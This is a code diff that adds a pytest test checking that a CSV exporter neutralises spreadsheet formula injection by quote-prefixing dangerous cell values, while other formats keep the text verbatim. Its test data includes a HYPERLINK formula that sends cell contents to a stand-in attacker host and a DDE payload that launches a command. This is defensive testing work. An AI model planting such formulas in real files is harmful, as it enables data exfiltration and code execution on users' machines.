@@ -227,6 +227,41 @@ def test_awkward_text_survives(tmp_path: Path, fmt: str) -> None:
     assert_rows_equal(READERS[fmt](path), records)
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tstarts with a tab",
+    "\rstarts with a carriage return",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
+    rng = np.random.default_rng(2)
+    records = []
+    for i, text in enumerate(FORMULAS):
+        record = make_record(i + 1, rng, dim=8)
+        record.text = text
+        record.source = text  # a file name can carry a formula too
+        record.title = "plain title"
+        records.append(record)
+    path = export_path(tmp_path, "csv")
+    write_export("csv", records, path, total=len(records))
+    with path.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    for row, text in zip(rows, FORMULAS, strict=True):
+        assert row["text"] == "'" + text and row["source"] == "'" + text
+        assert row["title"] == "plain title"
+        assert row["embedding"].startswith("[")  # numbers and JSON arrays are left alone
+    # The other formats carry the text exactly: escaping is a spreadsheet concern.
+    for fmt in ("json", "vector", "parquet"):
+        other = export_path(tmp_path, fmt)
+        write_export(fmt, records, other, total=len(records))
+        assert [r["text"] for r in READERS[fmt](other)] == FORMULAS
+
+
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_failing_source_leaves_no_file(tmp_path: Path, fmt: str) -> None:
     """A source raising midway propagates and leaves neither file."""
